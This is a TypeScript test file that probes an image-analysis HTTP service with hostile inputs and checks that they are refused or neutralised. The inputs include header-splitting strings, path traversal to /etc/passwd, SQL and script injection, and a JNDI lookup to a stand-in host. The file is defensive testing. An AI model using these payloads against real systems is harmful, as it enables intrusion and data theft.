import { Writable } from 'node:stream'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { form, picture, runTestService, type TestService } from '../running/test-service.ts'

const lines: string[] = []
const sink = new Writable({
  write: (chunk, _encoding, done) => {
    lines.push(String(chunk))
    done()
  },
})
let running: TestService
beforeAll(async () => {
  running = await runTestService({ log: sink, listen: true, work: false })
})
afterAll(() => running.close())

/** What somebody would write to end a line, a header, a path or a string early. */
const HOSTILE = [
  '\r\nset-cookie: owned=1',
  '\n{"level":"fatal","msg":"owned"}',
  '%0d%0aset-cookie:%20owned=1',
  '\u2028owned\u2029',
  '\u001b[31mowned\u001b[0m',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  'a\0.png',
  '/etc/passwd',
  `${'$'}{jndi:ldap://owned.example/a}`,
  '{{7*7}}<%= owned %>',
  `"; DROP TABLE analyses; --`,
  '<script>owned</script>',
  '"owned',
]

test.each(HOSTILE)(
  '%j as a name, a tag and a file’s name is text, here and in what comes back',
  async (text) => {
    const clean = text.replaceAll(/[\r\n\0]/g, '')
    const sent = await running.app.inject({
      method: 'POST',
      url: '/api/v1/analyses',
      payload: form(
        { file: await picture(), name: text, tags: clean.replaceAll(',', '').slice(0, 60) },
        clean,
      ),
    })
    // A name may hold anything that a form can carry; what a form cannot carry is refused.
    expect([202, 400]).toContain(sent.statusCode)
    expect(sent.headers['set-cookie']).toBeUndefined()
    if (sent.statusCode === 400) return
    expect(sent.headers.location).toMatch(/^\/api\/v1\/analyses\/[0-9a-f-]{36}$/)
    expect(sent.json().name).toBe(text.replaceAll(/\r?\n/g, '\r\n'))
    for (const stored of await running.stored()) expect(stored).toMatch(/^(blobs|spool)\/[A-Za-z0-9_/-]+$/)
    const found = await running.app.inject({ url: '/api/v1/analyses', query: { text: sent.json().name } })
    expect(found.json().items.map(({ id }: { id: string }) => id)).toContain(sent.json().id)
  },
)

test.each([
  '/..%2f..%2f..%2fetc%2fpasswd',
  '/%2e%2e/%2e%2e/etc/passwd',
  '/..;/..;/etc/passwd',
  '/assets/..%5c..%5cconfig',
  '/docs/..%2f..%2fpackage.json',
  '/docs/static/..%2f..%2f..%2fpackage.json',
  '//etc/passwd',
  '/.git/config',
  '/.env',
  '/package.json',
  '/api/v1/analyses/%0d%0aset-cookie:%20a=b',
  '/%00',
])('the path %s leads nowhere', async (path) => {
  const answer = await fetch(running.url + path, { redirect: 'manual' })
  expect([400, 404]).toContain(answer.status)
  expect(answer.headers.get('set-cookie')).toBeNull()
  expect(await answer.text()).not.toMatch(/root:|"workspaces"|\[core\]/)
})

test.each(['TRACE', 'PUT', 'PATCH', 'PROPFIND'])('%s does nothing', async (method) => {
  for (const url of ['/', '/api/v1/analyses', '/livez']) {
    const answer = await running.app.inject({ method: method as 'PUT', url, headers: { 'x-told': 'owned' } })
    expect([404, 405]).toContain(answer.statusCode)
    expect(answer.body).not.toContain('owned')
  }
})

test('headers that come back, or into the log, are taken letter by letter', async () => {
  for (const id of ['abc\u001b[31mdefgh', '"}{"owned":"1"', 'x'.repeat(65), '../../owned', 'a b c d e f']) {
    const answer = await running.app.inject({ url: '/livez', headers: { 'x-request-id': id } })
    expect(answer.headers['x-request-id']).toMatch(/^[0-9a-f-]{36}$/)
  }
  for (const key of ['a\tb', 'ä', ' ']) {
    const answer = await running.app.inject({
      method: 'POST',
      url: '/api/v1/analyses',
      headers: { 'idempotency-key': key },
      payload: form({ file: await picture() }),
    })
    expect(answer.statusCode).toBe(400)
  }
})

test('after all that, the log is one JSON object a line, and none was written by a caller', () => {
  const log = lines.join('')
  const told = log.trimEnd().split('\n')
  expect(told.length).toBeGreaterThan(30)
  for (const line of told) expect(JSON.parse(line)).toMatchObject({ service: 'unswap' })
  expect(log).not.toContain('owned')
  expect(log).not.toContain('\u001b')
})
